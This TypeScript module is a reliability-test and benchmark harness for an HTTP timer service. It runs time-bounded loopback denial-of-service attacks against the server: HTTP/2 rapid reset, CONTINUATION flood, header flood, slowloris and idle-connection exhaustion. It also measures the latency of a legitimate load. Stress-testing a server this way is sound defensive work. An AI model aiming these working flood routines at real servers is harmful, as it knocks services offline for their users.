// HTTP abuse against a fermata, for test/reliability/http-abuse.test.ts (survival and
// correctness) and bench/abuse.ts (the p99 of legitimate requests during each attack against a
// baseline). Loopback only; every attack runs for a given time and then lets go of everything
// it opened; every connect and request is bounded. Runs on the caller's main thread.
//
// Each attack connects from the source address it is given (`from`): an attacker is a peer
// of its own, as on a real network, so the server's per-peer penalty (ingest/http/listen/peer-guard.ts)
// can tell it from the legitimate client. Linux routes all of 127.0.0.0/8 to lo, so any
// 127.x.y.z is a loopback source; the legitimate load connects from 127.0.0.1.
//
//   rapid reset         HTTP/2 sessions opening streams and cancelling them at once (CVE-2023-44487)
//   continuation flood  one HEADERS frame without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27983 family)
//   header flood        HTTP/1.1 header lines without end
//   slowloris           HTTP/1.1 requests whose headers trickle in, one line at a time
//   idle connections    thousands of HTTP/2 sessions that say SETTINGS and then nothing
//
// Legitimate load: a closed loop of valid one-timer JSON adds over HTTP/2, whose latencies and
// failures are what the attacks are judged by.
import http2 from 'node:http2';
import net from 'node:net';
import { performance } from 'node:perf_hooks';
import { setImmediate as yieldToLoop, setTimeout as sleep } from 'node:timers/promises';
import { H2Client } from './h2-client.ts';
import { withTimeout } from './timeout.ts';

export const attackLimits = {
  connectTimeoutMs: 5_000,
  requestTimeoutMs: 10_000,
  /** Streams a rapid-reset session opens and cancels before yielding to the event loop. */
  resetsPerTick: 100,
  /** A flood stops after this many bytes even if the server still reads. */
  floodBytesMax: 64 * 1024 * 1024,
  /** Connections opened at once while building up idle ones (the listen backlog is finite). */
  connectBurst: 200,
  /** How often a slowloris connection sends its next header line. */
  slowlorisLineIntervalMs: 1_000,
  /** An attacker process that has not reported by its span plus this is killed. */
  attackerGraceMs: 60_000,
} as const;

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const frameTypes = { headers: 0x1, settings: 0x4, continuation: 0x9 } as const;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

/** HPACK literal header fields without indexing, new names: as many as fit `bytes`. */
function headerBlock(bytes: number): Buffer {
  const field = Buffer.concat([Buffer.of(0x00, 7), Buffer.from('x-flood', 'latin1'), Buffer.of(100), Buffer.alloc(100, 'a')]);
  return Buffer.concat(Array.from({ length: Math.floor(bytes / field.length) }, () => field));
}

function connect(port: number, from: string): Promise<net.Socket> {
  const socket = net.connect({ host: '127.0.0.1', port, localAddress: from });
  socket.on('error', () => undefined);
  return withTimeout(
    new Promise<net.Socket>((resolve, reject) => {
      socket.once('connect', () => resolve(socket));
      socket.once('error', reject);
    }),
    attackLimits.connectTimeoutMs,
    `a TCP connection to port ${port}`,
  ).catch((err: unknown) => {
    socket.destroy();
    throw err;
  });
}

/** Writes `chunk` and waits for the socket to drain, or to close (false). */
async function writeAll(socket: net.Socket, chunk: Buffer, deadline: number): Promise<boolean> {
  if (socket.destroyed) return false;
  if (socket.write(chunk)) return true;
  const remaining = deadline - performance.now();
  if (remaining <= 0) return false;
  const drained = await Promise.race([
    new Promise<boolean>((resolve) => socket.once('drain', () => resolve(true))),
    new Promise<boolean>((resolve) => socket.once('close', () => resolve(false))),
    sleep(remaining).then(() => false),
  ]);
  return drained && !socket.destroyed;
}

export interface AttackReport {
  readonly attack: string;
  /** What the attacker got done: streams reset, bytes flooded, connections held, … */
  readonly facts: Readonly<Record<string, number>>;
}

/** HTTP/2 sessions that open streams and cancel them at once, reconnecting whenever the server closes one. */
export async function rapidReset(url: string, durationMs: number, from: string, sessions = 4): Promise<AttackReport> {
  const deadline = performance.now() + durationMs;
  let resets = 0;
  let connects = 0;
  let closedByServer = 0;
  const attacker = async (): Promise<void> => {
    while (performance.now() < deadline) {
      let session: http2.ClientHttp2Session;
      try {
        session = http2.connect(url, { createConnection: (authority) => net.connect({ host: authority.hostname, port: Number(authority.port), localAddress: from }) });
        session.on('error', () => undefined);
        await withTimeout(new Promise<void>((resolve, reject) => session.once('connect', () => resolve()).once('error', reject)), attackLimits.connectTimeoutMs, 'a rapid-reset session');
      } catch {
        await sleep(10);
        continue;
      }
      connects++;
      while (performance.now() < deadline && !session.closed && !session.destroyed) {
        for (let i = 0; i < attackLimits.resetsPerTick && !session.closed && !session.destroyed; i++) {
          try {
            const stream = session.request({ ':method': 'POST', ':path': '/v1/timers', 'content-type': 'application/json' }, { endStream: false });
            stream.on('error', () => undefined);
            stream.close(http2.constants.NGHTTP2_CANCEL);
            resets++;
          } catch {
            break;
          }
        }
        await yieldToLoop();
      }
      if (session.closed || session.destroyed) closedByServer++;
      session.destroy();
    }
  };
  await Promise.all(Array.from({ length: sessions }, attacker));
  return { attack: 'rapid_reset', facts: { streams_reset: resets, sessions: connects, sessions_closed_by_server: closedByServer } };
}

/** One connection at a time: a HEADERS frame without END_HEADERS, then CONTINUATION frames until the server hangs up. */
export async function continuationFlood(port: number, durationMs: number, from: string): Promise<AttackReport> {
  const deadline = performance.now() + durationMs;
  const fragment = headerBlock(16_000);
  const continuation = frame(frameTypes.continuation, 0, 1, fragment);
  let connections = 0;
  let closedByServer = 0;
  let bytes = 0;
  while (performance.now() < deadline) {
    const socket = await connect(port, from).catch(() => undefined);
    if (socket === undefined) continue;
    connections++;
    socket.resume();
    let sent = 0;
    let open = await writeAll(socket, Buffer.concat([preface, frame(frameTypes.settings, 0, 0, Buffer.alloc(0)), frame(frameTypes.headers, 0, 1, fragment)]), deadline);
    while (open && performance.now() < deadline && sent < attackLimits.floodBytesMax) {
      open = await writeAll(socket, continuation, deadline);
      if (open) sent += continuation.length;
    }
    bytes += sent;
    if (!open && performance.now() < deadline) closedByServer++;
    socket.destroy();
  }
  return { attack: 'continuation_flood', facts: { connections, connections_closed_by_server: closedByServer, bytes_sent: bytes } };
}

/** One connection at a time: an HTTP/1.1 request line, then header lines until the server hangs up. */
export async function headerFlood(port: number, durationMs: number, from: string): Promise<AttackReport> {
  const deadline = performance.now() + durationMs;
  const lines = Buffer.from('X-Flood: ' + 'a'.repeat(100) + '\r\n', 'latin1');
  const chunk = Buffer.concat(Array.from({ length: 150 }, () => lines));
  let connections = 0;
  let closedByServer = 0;
  let answered431 = 0;
  while (performance.now() < deadline) {
    const socket = await connect(port, from).catch(() => undefined);
    if (socket === undefined) continue;
    connections++;
    let reply = '';
    socket.setEncoding('latin1').on('data', (text: string) => (reply += text));
    let sent = 0;
    let open = await writeAll(socket, Buffer.from('POST /v1/timers HTTP/1.1\r\nHost: 127.0.0.1\r\n', 'latin1'), deadline);
    while (open && performance.now() < deadline && sent < attackLimits.floodBytesMax) {
      open = await writeAll(socket, chunk, deadline);
      if (open) sent += chunk.length;
    }
    if (!open && performance.now() < deadline) closedByServer++;
    if (reply.startsWith('HTTP/1.1 431')) answered431++;
    socket.destroy();
  }
  return { attack: 'header_flood', facts: { connections, connections_closed_by_server: closedByServer, answered_431: answered431 } };
}

/** `connections` HTTP/1.1 requests whose header lines trickle in, one a second, for the whole duration. */
export async function slowloris(port: number, durationMs: number, from: string, connections = 500): Promise<AttackReport> {
  const sockets: net.Socket[] = [];
  for (let opened = 0; opened < connections; opened += attackLimits.connectBurst) {
    const burst = await Promise.allSettled(Array.from({ length: Math.min(attackLimits.connectBurst, connections - opened) }, () => connect(port, from)));
    for (const result of burst) if (result.status === 'fulfilled') sockets.push(result.value);
  }
  let closedByServer = 0;
  for (const socket of sockets) {
    socket.resume();
    socket.once('close', () => closedByServer++);
    socket.write('POST /v1/timers HTTP/1.1\r\nHost: 127.0.0.1\r\n');
  }
  const deadline = performance.now() + durationMs;
  for (let line = 0; performance.now() < deadline; line++) {
    await sleep(Math.min(attackLimits.slowlorisLineIntervalMs, Math.max(0, deadline - performance.now())));
    for (const socket of sockets) if (!socket.destroyed) socket.write(`X-Slow-${line}: 1\r\n`);
  }
  const held = sockets.filter((socket) => !socket.destroyed).length;
  for (const socket of sockets) socket.destroy();
  return { attack: 'slowloris', facts: { connections: sockets.length, held_to_the_end: held, closed_by_server: closedByServer } };
}

export interface IdleConnections {
  readonly opened: number;
  /** Connections the server has closed so far. */
  closedByServer(): number;
  close(): void;
}

/** Up to `count` HTTP/2 sessions that send the preface and SETTINGS, read what comes, and say nothing more. */
export async function idleConnections(port: number, count: number, from: string): Promise<IdleConnections> {
  const sockets: net.Socket[] = [];
  let closed = 0;
  let closing = false;
  const hello = Buffer.concat([preface, frame(frameTypes.settings, 0, 0, Buffer.alloc(0))]);
  for (let opened = 0; opened < count; opened += attackLimits.connectBurst) {
    const burst = await Promise.allSettled(Array.from({ length: Math.min(attackLimits.connectBurst, count - opened) }, () => connect(port, from)));
    for (const result of burst) {
      if (result.status !== 'fulfilled') continue;
      const socket = result.value;
      socket.resume();
      socket.once('close', () => {
        if (!closing) closed++;
      });
      socket.write(hello);
      sockets.push(socket);
    }
  }
  return {
    opened: sockets.length,
    closedByServer: () => closed,
    close() {
      closing = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}

export interface LegitimateLoad {
  /** Latency of each successful add, ms, in completion order. */
  readonly latenciesMs: number[];
  /** Requests that failed: no answer in time, a closed stream, or not a 201. */
  readonly failures: string[];
}

/** A closed loop of `concurrency` valid JSON adds over one HTTP/2 session until `durationMs` is over. */
export async function legitimateLoad(url: string, durationMs: number, concurrency = 4): Promise<LegitimateLoad> {
  const client = await H2Client.connect(url, attackLimits.requestTimeoutMs);
  const latenciesMs: number[] = [];
  const failures: string[] = [];
  const deadline = performance.now() + durationMs;
  const body = JSON.stringify({ delay_ms: 3_600_000, target: 'http://127.0.0.1:9/legitimate', payload: 'legitimate' });
  const lane = async (): Promise<void> => {
    while (performance.now() < deadline) {
      try {
        const answer = await client.request({ method: 'POST', path: '/v1/timers', headers: { 'content-type': 'application/json' }, body });
        if (answer.status === 201) latenciesMs.push(answer.elapsedMs);
        else failures.push(`status ${answer.status}: ${answer.body.toString('utf8').slice(0, 200)}`);
      } catch (err) {
        failures.push(err instanceof Error ? err.message : String(err));
      }
    }
  };
  try {
    await Promise.all(Array.from({ length: concurrency }, lane));
  } finally {
    client.close();
  }
  return { latenciesMs, failures };
}

/** The q-quantile (0–1) of `values`, nearest rank; NaN for none. */
export function quantile(values: readonly number[], q: number): number {
  if (values.length === 0) return Number.NaN;
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.ceil(q * sorted.length) - 1)] as number;
}
